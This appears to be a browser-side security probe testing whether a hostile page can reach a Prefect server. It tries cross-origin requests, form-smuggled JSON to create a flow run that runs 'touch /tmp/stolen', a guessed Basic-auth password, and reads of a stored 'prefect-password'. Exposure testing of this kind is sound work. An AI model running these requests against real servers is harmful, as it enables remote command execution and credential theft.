// Every way by which a page asks another server. What it got to see, by name; null: nothing.
async ([target, deployment]) => {
  const read = {};
  const limited = (work) => Promise.race([
    work, new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 8000)),
  ]);
  const attempt = async (name, work) => {
    try { read[name] = await limited(work()); } catch (error) { read[name] = null; }
  };
  const text = async (answer) => answer.type === "opaque" || !answer.ok ? null : (await answer.text()).slice(0, 200);
  const run = JSON.stringify({name: "stolen", job_variables: {command: "touch /tmp/stolen"}});
  const paths = ["/api/health", "/api/version", "/api/admin/settings", "/api/flows/", "/ui-settings", "/v2/",
    "/reports/r.html", "/sign-in", "/openapi.json", "/api/csrf-token?client=x"];
  for (const path of paths) {
    for (const mode of ["cors", "no-cors"]) {
      await attempt(`get ${path} ${mode}`, async () => text(await fetch(target + path, {mode, credentials: "include"})));
    }
  }
  const posts = [`/api/deployments/${deployment}/create_flow_run`, "/api/deployments/filter", "/api/flow_runs/filter",
    "/sign-in", "/sign-in/ticket", "/api/artifacts/", "/api/work_pools/"];
  for (const path of posts) {
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "application/json"]) {
      for (const mode of ["cors", "no-cors"]) {
        const request = {method: "POST", mode, body: run, headers: {"Content-Type": type}, credentials: "include"};
        await attempt(`post ${path} ${type} ${mode}`, async () => text(await fetch(target + path, request)));
      }
    }
    navigator.sendBeacon(target + path, run);
  }
  const guess = {headers: {Authorization: "Basic " + btoa("retrieval-sfm:guess"), "Prefect-Csrf-Token": "x"}};
  await attempt("guess", async () => text(await fetch(target + "/api/flows/filter", {...guess, method: "POST"})));
  for (const path of ["/api/events/in", "/api/events/out", "/api/logs/out"]) {
    for (const protocol of ["prefect", undefined]) {
      await attempt(`socket ${path} ${protocol}`, () => new Promise((resolve, reject) => {
        const socket = new WebSocket(target.replace("http", "ws") + path, protocol);
        socket.onopen = () => resolve("open");
        socket.onerror = () => reject(new Error("refused"));
      }));
    }
  }
  for (const [kind, path] of [["script", "/api/health"], ["script", "/ui-settings"], ["img", "/v2/ico/favicon-32x32.png"],
      ["iframe", "/v2/"], ["iframe", "/sign-in"]]) {
    await attempt(`${kind} ${path}`, () => new Promise((resolve, reject) => {
      const element = document.createElement(kind);
      element.onload = () => {
        if (kind !== "iframe") { resolve("loaded"); return; }
        try { resolve(element.contentWindow.localStorage.getItem("prefect-password")); } catch (error) { reject(error); }
      };
      element.onerror = reject;
      element.src = target + path;
      document.body.append(element);
    }));
  }
  const frame = document.createElement("iframe");
  frame.name = "form";
  document.body.append(frame);
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const form = document.createElement("form");
    Object.assign(form, {method: "post", action: `${target}/api/deployments/${deployment}/create_flow_run`});
    Object.assign(form, {enctype: type, target: "form"});
    const field = document.createElement("input");
    Object.assign(field, {name: run.slice(0, -1) + ', "x": "', value: '"}'});
    form.append(field);
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 300));
  }
  const opened = window.open(target + "/v2/");
  await new Promise((resolve) => setTimeout(resolve, 1500));
  await attempt("opened", async () => opened.localStorage.getItem("prefect-password"));
  return read;
}
